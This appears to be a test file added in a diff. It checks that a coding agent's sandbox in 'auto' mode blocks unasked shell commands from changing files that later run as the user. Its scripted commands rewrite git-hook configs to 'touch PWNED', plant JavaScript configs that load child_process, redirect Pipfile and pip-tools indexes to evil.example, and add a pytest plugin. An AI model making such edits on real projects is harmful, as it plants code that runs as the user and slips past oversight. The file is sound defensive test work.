@@ -1,0 +1,143 @@
+"""Findings S5, S12, S20, S22 and S11 through the console script, bubblewrap and a real git
+repository: files that run later as the user, which ``auto`` mode's unasked command could
+change unsaid: lint-staged's, commitlint's and simple-git-hooks' data configs, a hook's
+``make -f ci.mk`` and a Makefile's ``include $(wildcard mk/*.mk)``, the JavaScript configs
+editor extensions load on open, Pipfile's ``[[source]]`` and pip-tools' ``*.in`` index lines,
+and the packages a venv program requires (pytest → pluggy)."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+from ..sandboxing import require_sandbox
+from .conftest import RunCli
+from .test_hook_configs_cli import committed
+
+
+def run(run_cli: RunCli, script: Callable[[list[Any]], str], command: str) -> str:
+    """Run ``command`` unasked; the tool result the model saw."""
+    turns = [{"tool_calls": [{"name": "run_shell", "args": {"command": command}}]}, "Done."]
+    r = run_cli("-p", "go", "--model", script(turns), "--permission-mode", "auto", "--approve", "never",
+                "--no-session", "--output-format", "json")
+    assert r.returncode == 0, r.stderr
+    return r.stdout
+
+
+def test_lint_staged_commitlint_and_simple_git_hooks_configs_stay_as_they_were(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """S5: the next commit runs what these name (lint-staged's commands, commitlint's plugins)."""
+    require_sandbox()
+    files = {".lintstagedrc": '{"*.js": "eslint"}\n', ".lintstagedrc.json": '{"*.md": "prettier"}\n',
+             ".commitlintrc.json": '{"extends": ["@commitlint/config-conventional"]}\n',
+             ".simple-git-hooks.json": '{"pre-commit": "npx lint-staged"}\n'}
+    committed(workspace, {".husky/pre-commit": "npx lint-staged\n", **files})
+    out = run(run_cli, script, "for f in .lintstagedrc .lintstagedrc.json .simple-git-hooks.json; do "
+                               "echo '{\"*.js\": \"touch PWNED\"}' > $f; done; "
+                               "echo '{\"plugins\": [\"./evil.js\"]}' > .commitlintrc.json; true")
+    for name, text in files.items():
+        assert (workspace / name).read_text() == text, name
+    assert ".lintstagedrc" in out and "commit" in out  # said, with why
+
+
+def test_a_hooks_make_file_and_a_makefiles_globbed_includes_stay_as_they_were(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """S12: ``make -f ci.mk lint`` and ``include $(wildcard mk/*.mk)``: changed or new, the
+    next commit ran their recipes."""
+    require_sandbox()
+    files = {".husky/pre-commit": "make -f ci.mk lint\nmake check\n", "ci.mk": "lint:\n\ttrue\n",
+             "Makefile": "include $(wildcard mk/*.mk)\ncheck:\n\ttrue\n", "mk/base.mk": "base:\n\ttrue\n"}
+    committed(workspace, files)
+    subprocess.run(["git", "config", "core.hooksPath", ".husky"], cwd=workspace, check=True)
+    out = run(run_cli, script, "printf 'lint:\\n\\ttouch PWNED\\n' > ci.mk; "
+                               "printf 'x:\\n\\ttouch PWNED\\n' > mk/base.mk; "
+                               "printf 'y:\\n\\ttouch PWNED\\n' > mk/zz.mk; echo ok > notes.txt; true")
+    for name, text in files.items():
+        assert (workspace / name).read_text() == text, name
+    assert not (workspace / "mk" / "zz.mk").exists()
+    assert (workspace / "notes.txt").read_text() == "ok\n"  # the rest of the work tree stays writable
+    assert "ci.mk" in out
+
+
+def test_javascript_configs_editor_extensions_load_on_open_are_not_planted(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """S20: Playwright's, Vite's, Vitest's workspace, UnoCSS's, GraphQL's, Apollo's and
+    Mocha's configs run (JavaScript) when the editor opens the folder."""
+    require_sandbox()
+    committed(workspace, {"README.md": "x\n"})
+    names = ["playwright.config.ts", "vitest.workspace.ts", "vite.config.ts", "uno.config.ts",
+             "graphql.config.js", ".graphqlrc.ts", "apollo.config.js", ".mocharc.js", "panda.config.ts"]
+    run(run_cli, script, " ".join(f"echo 'require(\"child_process\")' > {n};" for n in names) + " true")
+    for name in names:
+        assert not (workspace / name).exists(), name
+
+
+def test_pipfile_source_and_pip_tools_inputs_are_set_back(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """S22: ``pipenv install`` and ``pip-compile`` get every package from where these say."""
+    require_sandbox()
+    pipfile = ('[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n'
+               '[packages]\nrequests = "*"\n')
+    committed(workspace, {"Pipfile": pipfile, "requirements/base.in": "django\n"})
+    run(run_cli, script, "sed -i 's#pypi.org#evil.example#' Pipfile; "
+                         "printf -- '--index-url https://evil.example/simple\\ndjango\\nflask\\n' "
+                         "> requirements/base.in")
+    assert (workspace / "Pipfile").read_text() == pipfile
+    assert "evil.example" not in (workspace / "requirements" / "base.in").read_text()
+
+
+def test_what_a_venv_program_requires_is_read_only(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """S11: a program's dist (with a program in bin/) requires another; its package is run
+    by the user's next use of that program, so it is read-only as the program's own is. A
+    package nothing there requires stays writable."""
+    require_sandbox()
+    venv = [os.path.realpath(sys.executable), "-m", "venv", "--without-pip", str(workspace / ".venv")]
+    subprocess.run(venv, check=True)
+    site = next((workspace / ".venv" / "lib").glob("python*/site-packages"))
+    for name, requires, program in (("tool", "Requires-Dist: helper (>=1)\nRequires-Dist: extra-only; "
+                                     'extra == "dev"\n', True), ("helper", "", False), ("loose", "", False),
+                                    ("extra_only", "", False)):
+        (site / name).mkdir()
+        (site / name / "__init__.py").write_text("x = 1\n")
+        info = site / f"{name}-1.0.dist-info"
+        info.mkdir()
+        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{requires}\n")
+        rows = [f"{name}/__init__.py,,", f"{info.name}/METADATA,,", f"{info.name}/RECORD,,"]
+        if program:
+            (workspace / ".venv" / "bin" / name).write_text(f"#!/bin/sh\nexec python -m {name}\n")
+            rows.append(f"../../../bin/{name},,")
+        (info / "RECORD").write_text("\n".join(rows) + "\n")
+    run(run_cli, script, "for p in tool helper loose extra_only; do "
+                         "echo 'import os' >> .venv/lib/python3*/site-packages/$p/__init__.py; done; true")
+    assert (site / "tool" / "__init__.py").read_text() == "x = 1\n"
+    assert (site / "helper" / "__init__.py").read_text() == "x = 1\n"
+    assert (site / "loose" / "__init__.py").read_text().endswith("import os\n")
+    assert (site / "extra_only" / "__init__.py").read_text().endswith("import os\n")
+
+
+
+
+def test_a_hooks_pytest_config_and_conftest_stay_as_they_were(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """S13: a hook runs ``pytest -q tests``: ``pytest.ini``'s ``addopts = -p plugin`` and a new
+    ``tests/conftest.py`` ran as the user at the next commit."""
+    require_sandbox()
+    files = {".git-hooks/pre-commit": "#!/bin/sh\n.venv/bin/pytest -q tests\n", "pytest.ini": "[pytest]\n",
+             "tests/test_a.py": "def test_a():\n    pass\n"}
+    committed(workspace, files)
+    subprocess.run(["git", "config", "core.hooksPath", ".git-hooks"], cwd=workspace, check=True)
+    run(run_cli, script, "printf '[pytest]\\naddopts = -p evilplug\\n' > pytest.ini; "
+                         "echo 'import os' > tests/conftest.py; echo 'import os' > evilplug.py; true")
+    assert (workspace / "pytest.ini").read_text() == "[pytest]\n"
+    assert not (workspace / "tests" / "conftest.py").exists()
